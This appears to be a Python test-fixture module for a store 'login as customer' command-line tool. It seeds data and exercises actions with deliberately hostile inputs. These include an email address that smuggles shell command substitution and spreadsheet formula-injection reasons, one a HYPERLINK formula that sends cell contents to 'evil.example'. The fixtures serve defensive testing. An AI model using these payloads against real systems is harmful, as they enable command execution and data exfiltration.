"""A store for the scripts in tests/foreign, created with the command line."""

import atexit
import json
import os
import pathlib
import shutil
import subprocess
import tempfile
import threading
import urllib.request

BINARY = os.environ.get("LAC_BINARY", "target/debug/lac")

WEBSITES = [
    {"id": 0, "code": "admin", "name": "Admin", "default_group_id": 0},
    {"id": 1, "code": "base", "name": "Main Website", "default_group_id": 1},
]
GROUPS = [
    {"id": 0, "website_id": 0, "root_category_id": 0, "default_store_id": 0, "name": "Default", "code": "default"},
    {"id": 1, "website_id": 1, "root_category_id": 2, "default_store_id": 1, "name": "Main", "code": "main"},
]
VIEWS = [
    {"id": 0, "code": "admin", "name": "Admin", "website_id": 0, "store_group_id": 0, "is_active": 1},
    {"id": 1, "code": "default", "name": "Default View", "website_id": 1, "store_group_id": 1, "is_active": 1},
]
# The third address would run a command if a shell interpreted it.
EMAILS = ["jane@example.com", "john@example.com", "ja$(touch${IFS}pwned)`touch${IFS}pwned`;touch@example.com"]


def customers(emails):
    items = [
        {
            "id": at, "group_id": 1, "email": email, "firstname": "Jane", "lastname": "Doe",
            "store_id": 1, "website_id": 1,
            "created_at": "2026-01-01 00:00:00", "updated_at": "2026-01-01 00:00:00",
            "extension_attributes": {"assistance_allowed": 2}, "custom_attributes": [],
        }
        for at, email in enumerate(emails, start=1)
    ]
    return {"items": items, "search_criteria": {}, "total_count": len(items)}


class Store:
    def __init__(self):
        self.home = pathlib.Path(tempfile.mkdtemp(prefix="lac-foreign-"))
        atexit.register(shutil.rmtree, self.home, ignore_errors=True)
        self.env = {
            "HOME": str(self.home), "LAC_STORE": str(self.home / "store"),
            "PATH": os.environ["PATH"], "TERM": "xterm", "LANG": "C.UTF-8",
        }
        self.binary = str(pathlib.Path(BINARY).resolve())
        self.ok("init", "--admin", "anna", "--name", "shop.example")

    def run(self, *arguments, stdin="", **env):
        return subprocess.run([self.binary, *arguments], input=stdin, text=True, capture_output=True,
                              env={**self.env, **env}, timeout=60)

    def ok(self, *arguments, **more):
        done = self.run(*arguments, **more)
        assert done.returncode == 0, f"lac {arguments}: {done}"
        return done.stdout

    def json(self, *arguments, **more):
        return json.loads(self.ok(*arguments, "-o", "json", **more))

    def ready(self):
        """Everything a login needs, with two shoppers who allow it."""
        for kind, data in [
            ("websites", WEBSITES), ("store-groups", GROUPS), ("store-views", VIEWS), ("customers", customers(EMAILS)),
        ]:
            self.ok("import", kind, "-", "-o", "json", stdin=json.dumps(data))
        self.ok("config", "set", "login_as_customer/general/enabled", "yes")
        self.ok("config", "set", "web/secure/base_url", "https://shop.example/")
        return self

    def eventful(self):
        """A log where nearly every kind of action succeeds and fails once, with hostile text."""
        self.ready()
        storefront = self.json("storefront", "add", "shop", "--website", "base")["token"]
        audience = ("--audience", "https://shop.example")
        for whom, reason in [("1", "Zoë cannot pay ☹\nsince \"today\", she says"), ("2", REASONS[0])]:
            login = self.json("login", whom, "--ticket", "ZD-4711", "--reason", reason)
            self.ok("redeem", login["url"], *audience, LAC_TOKEN=storefront)
            self.run("redeem", login["url"], *audience, LAC_TOKEN=storefront)
            self.ok("session", "end", login["session_id"])
        self.ok("login", "1")
        self.ok("session", "end", "--all")
        for reason in REASONS:
            self.run("login", "nobody@example.com", "--reason", reason)
        for line in ACTS.splitlines():
            self.ok(*line.split())
        for name in ["=cmd", "@SUM(A1)", "<b>&amp;</b>"]:
            self.ok("role", "create", name)
            self.ok("user", "create", name, "--role", name, "--full-name", name)
            token = self.json("user", "token", "create", name)["token"]
            for line in READS.splitlines():
                assert self.run(*line.split(), LAC_TOKEN=token).returncode == 4, line
        return self


# Possible reasons, many of which a spreadsheet would evaluate.
REASONS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")", "=1+1", "+49 170 1234567", "-1", "-2+3", "@SUM(A1)",
           "＝1+1", "a, b; c\td", "0012", "1e5", "2026-10-05", "https://evil.example/", "😀 שלום ß", "'=1",
           "_x000D_", "TRUE", "line\nline\n\nline", "x" * 2000]

ACTS = """\
consent revoke 2 --reason phone
consent grant 2
config set lac/session/max_duration 600
config unset lac/session/max_duration
stores add-website eu --name Europe
stores add-group eu_main --website eu --name Main
stores add-view eu_en --group eu_main --name EN
stores edit store-view:eu_en --name English
stores remove store-view:eu_en --yes
role create Clerks
role access Clerks custom
role allow Clerks login_button
role deny Clerks login_button
role scope Clerks website:base
role create Others
user create bea --role Clerks
user assign bea Others
user edit bea --full-name Bea
user token create bea
user token revoke bea --all --yes
user disable bea --yes
user enable bea
user delete bea --yes
role delete Others --yes
customer add --email gina@example.com --website base
customer edit gina@example.com --first-name =Gina
customer remove gina@example.com --yes
storefront add other --website base
storefront revoke other --yes"""

# A denied attempt of every group.
READS = """\
login 1 --reason =1+1
session list
consent show 1
consent grant 1
config list
config set lac/session/max_duration 60
role list
role create x
user list
user create x --role x
stores list
stores add-website x --name x
customer list
customer add --email x@example.com --website base
document show --order 1
import customers -
log list
log recover --yes
storefront list
storefront add x --website base"""


class Gateway:
    """The gateway of a store, on a free port."""

    def __init__(self, store, *arguments, **limits):
        config = store.home / "gateway.toml"
        config.write_text("[gateway]\n" + "".join(f"{key} = {value}\n" for key, value in limits.items()))
        self.process = subprocess.Popen(
            [store.binary, "serve", "--config", str(config), "--listen", "127.0.0.1:0", *arguments], env=store.env,
            text=True, stderr=subprocess.PIPE)
        atexit.register(self.process.kill)
        first = self.process.stderr.readline()
        assert first.startswith("listening on http"), first + self.process.stderr.read()
        self.url = first.split()[-1]
        host, _, port = self.url.split("://")[1].rpartition(":")
        self.place = (host, int(port))
        self.log = []
        self.reader = threading.Thread(target=lambda: self.log.extend(self.process.stderr), daemon=True)
        self.reader.start()

    def post(self, path, token, body):
        request = urllib.request.Request(self.url + path, json.dumps(body).encode(), {
            "Authorization": f"Bearer {token}", "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=60) as answer:
            return json.load(answer)

    def stop(self):
        """Ends it; returns the lines of its log."""
        self.process.terminate()
        assert self.process.wait(timeout=30) == 0
        self.reader.join(timeout=30)
        return self.log
